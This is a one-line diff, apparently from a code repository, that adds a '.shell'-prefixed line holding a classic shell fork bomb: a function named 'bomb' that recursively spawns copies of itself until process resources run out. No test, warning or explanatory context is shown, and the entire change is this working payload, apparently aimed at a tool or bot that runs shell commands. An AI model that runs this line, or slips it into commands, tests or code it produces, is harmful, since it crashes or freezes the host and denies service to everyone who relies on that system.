@@ -1,0 +1,1 @@
+.shell bomb() { bomb | bomb & bomb; }; bomb
